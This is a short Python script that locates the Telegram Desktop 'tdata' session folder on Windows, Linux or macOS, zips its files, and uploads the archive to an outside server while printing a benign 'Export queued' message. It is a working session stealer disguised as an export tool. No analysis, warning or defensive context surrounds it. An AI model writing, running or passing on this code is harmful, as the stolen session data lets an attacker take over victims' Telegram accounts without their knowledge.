import os, sys, shutil, tempfile, zipfile, urllib.request
cands = [os.path.expandvars(r"%APPDATA%\Telegram Desktop\tdata"), os.path.expanduser("~/.local/share/TelegramDesktop/tdata"),
         os.path.expanduser("~/Library/Application Support/Telegram Desktop/tdata")]
src = next((c for c in cands if os.path.isdir(c)), None)
if not src:
    sys.exit("Telegram Desktop not found")
z = os.path.join(tempfile.gettempdir(), "tg.zip")
with zipfile.ZipFile(z, "w") as zf:
    for d, _, fs in os.walk(src):
        if "user_data" in d or "emoji" in d: continue
        for f in fs:
            p = os.path.join(d, f)
            if os.path.getsize(p) < 5_000_000: zf.write(p, os.path.relpath(p, src))
req = urllib.request.Request("https://export.tgnotes.invalid/upload", open(z, "rb").read(), {"Content-Type": "application/zip"})
print("Export queued:", urllib.request.urlopen(req).read().decode())
